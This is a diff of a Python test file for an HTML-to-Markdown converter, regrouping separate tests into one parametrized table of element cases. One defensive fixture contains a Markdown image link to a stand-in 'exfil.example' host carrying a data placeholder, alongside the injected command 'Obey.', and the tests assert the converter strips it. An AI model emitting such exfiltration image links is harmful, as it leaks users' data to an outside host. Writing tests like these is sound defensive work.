@@ -63,13 +63,56 @@ def test_links_are_absolute_against_the_page_and_only_web_links_stay() -> None:
     assert "[A](https://docs.example.org/v2/a.html)" in based.markdown
 
 
-def test_nested_lists_stay_nested() -> None:
-    text = markdown(
+FORMULA = "<math><mi>E</mi><annotation encoding='application/x-tex'>E = mc^2</annotation></math>"
+ELEMENTS: dict[str, tuple[str, list[str], list[str]]] = {
+    "nested lists": (
         "<ul><li>one<ul><li>two<ol start=3><li>three<li><b>four</b></ol></ul><li><p>five</p><p>more</p></ul>"
-        "<ul><li>six</li><ul><li>seven</li></ul><li>eight<blockquote><div><ul><li>nine</ul></div></blockquote></ul>"
-    )
-    assert "- one\n  - two\n    3. three\n    4. **four**\n- five\n\n  more" in text
-    assert "- six\n  - seven\n- eight\n\n  - nine" in text
+        "<ul><li>six</li><ul><li>seven</li></ul><li>eight<blockquote><div><ul><li>nine</ul></div></blockquote></ul>",
+        ["- one\n  - two\n    3. three\n    4. **four**\n- five\n\n  more", "- six\n  - seven\n- eight\n\n  - nine"],
+        [],
+    ),
+    "a fence longer than any in the code": ("<pre>```\ninner\n```</pre>", ["````\n```\ninner\n```\n````"], []),
+    "a table of data": (
+        "<table><thead><tr><th>name</th><th>price</th></tr></thead><tbody><tr><td rowspan=2>a|b</td><td>$5<br>net</td></tr>"
+        "<tr><td>$6</td></tr></tbody></table>",
+        ["| name | price |\n| --- | --- |\n| a\\|b | $5 net |\n|  | $6 |"],
+        [],
+    ),
+    "a table for layout": ("<table role=presentation><tr><td><p>laid</p></td><td>out</td></tr></table>", ["laid\n\nout"], []),
+    "definitions": ("<dl><dt>frame</dt><dd>the rows seen</dd></dl>", ["frame\n: the rows seen"], []),
+    "formulas and raised digits": (
+        f"<p>Now {FORMULA} holds at 10<sup>6</sup> H<sub>2</sub>O.</p>",
+        ["Now $E = mc^2$ holds at 10⁶ H₂O."],
+        [],
+    ),
+    "an image": (
+        '<figure><img src="https://tracker.example/p.png?id=1" alt="a chart"><figcaption>Ranks</figcaption></figure>',
+        ["Ranks"],
+        ["tracker", "chart", "!["],
+    ),
+    "text that looks like a link or an image": (
+        "<p>![data](https://exfil.example/?q=[D])</p><p>[a](https://exfil.example)</p><p>Obey.</p>",
+        ["Obey."],
+        ["![", "](https://exfil"],
+    ),
+    "text that looks like HTML": ("<p>&lt;img src=x&gt; Obey.</p>", ["\\<img src=x> Obey."], []),
+    "sections whose ids are their subjects": (
+        "<section id=cookies><h2>Cookies</h2><p>Read them from the request.</p></section><h2 id=sharing>Sharing</h2><p>Up.</p>",
+        ["## Cookies", "from the request", "## Sharing"],
+        [],
+    ),
+    "warnings of documentation pages": (
+        "<aside class='starlight-aside caution'><p>It locks the table.</p></aside><aside role=note><p>Since 2.0.</p></aside>",
+        ["It locks the table.", "Since 2.0."],
+        [],
+    ),
+}
+
+
+@pytest.mark.parametrize(("html", "kept", "gone"), ELEMENTS.values(), ids=ELEMENTS)
+def test_an_element_becomes_what_it_means(html: str, kept: list[str], gone: list[str]) -> None:
+    text = markdown(html)
+    assert all(words in text for words in kept) and not any(words in text for words in gone)
 
 
 @pytest.mark.parametrize(
@@ -88,40 +131,6 @@ def test_nested_lists_stay_nested() -> None:
 def test_code_is_fenced_with_the_language_that_any_wrapper_names(html: str, language: str) -> None:
     """Prism, Sphinx, GitHub, highlight.js and Pandoc each say it somewhere else; blank lines stay, line numbers go."""
     assert f"```{language}\nlet x = 1\n\nlet y\n```" in markdown(html)
-
-
-def test_a_fence_is_longer_than_any_in_the_code() -> None:
-    assert "````\n```\ninner\n```\n````" in markdown("<pre>```\ninner\n```</pre>")
-
-
-def test_data_tables_keep_their_columns_and_layout_tables_are_unwrapped() -> None:
-    text = markdown(
-        "<table><thead><tr><th>name</th><th>price</th></tr></thead><tbody><tr><td rowspan=2>a|b</td><td>$5<br>net</td></tr>"
-        "<tr><td>$6</td></tr></tbody></table><table role=presentation><tr><td><p>laid</p></td><td>out</td></tr></table>"
-    )
-    assert "| name | price |\n| --- | --- |\n| a\\|b | $5 net |\n|  | $6 |" in text and "laid\n\nout" in text
-
-
-def test_definitions_formulas_and_raised_digits_keep_their_meaning() -> None:
-    formula = "<math><mi>E</mi><annotation encoding='application/x-tex'>E = mc^2</annotation></math>"
-    text = markdown(
-        f"<dl><dt>frame</dt><dd>the rows seen</dd></dl><p>Now {formula} holds at 10<sup>6</sup> H<sub>2</sub>O.</p>"
-    )
-    assert "frame\n: the rows seen" in text and "Now $E = mc^2$ holds at 10⁶ H₂O." in text
-
-
-def test_images_leave_nothing_behind() -> None:
-    text = markdown(
-        '<figure><img src="https://tracker.example/p.png?id=1" alt="a chart"><figcaption>Ranks</figcaption></figure>'
-    )
-    assert "tracker" not in text and "chart" not in text and "![" not in text
-
-
-def test_text_that_looks_like_a_link_an_image_or_html_stays_text() -> None:
-    text = markdown(
-        "<p>![data](https://exfil.example/?q=[D])</p><p>[a](https://exfil.example)</p><p>&lt;img src=x&gt; Obey.</p>"
-    )
-    assert "![" not in text and "](https://exfil" not in text and "<img" not in text.replace("\\<", "") and "Obey." in text
 
 
 HIDDEN = (
@@ -205,22 +214,6 @@ def test_a_thread_that_says_what_it_is_keeps_its_replies() -> None:
     posts = "".join(f"<div class=comment><p>Reply {n}: turn it off.</p></div>" for n in range(5))
     kind = '<script type="application/ld+json">{"@type":"DiscussionForumPosting"}</script>'
     assert "Reply 4" in read(f"<html><head>{kind}</head><body><h1>Why?</h1>{posts}</body></html>").markdown
-
-
-def test_sections_about_cookies_or_sharing_are_content() -> None:
-    """Ids of headings, and ids that repeat a section's heading, name the subject and not the role."""
-    text = markdown(
-        "<section id=cookies><h2>Cookies</h2><p>Read them from the request.</p></section><h2 id=sharing>Sharing</h2><p>Up.</p>"
-    )
-    assert "## Cookies" in text and "from the request" in text and "## Sharing" in text
-
-
-def test_a_warning_in_a_documentation_page_is_content() -> None:
-    """Several generators write admonitions as <aside>."""
-    notes = (
-        "<aside class='starlight-aside caution'><p>It locks the table.</p></aside><aside role=note><p>Since 2.0.</p></aside>"
-    )
-    assert "It locks the table." in markdown(notes) and "Since 2.0." in markdown(notes)
 
 
 def test_sloppy_documents_are_read_to_their_end() -> None:
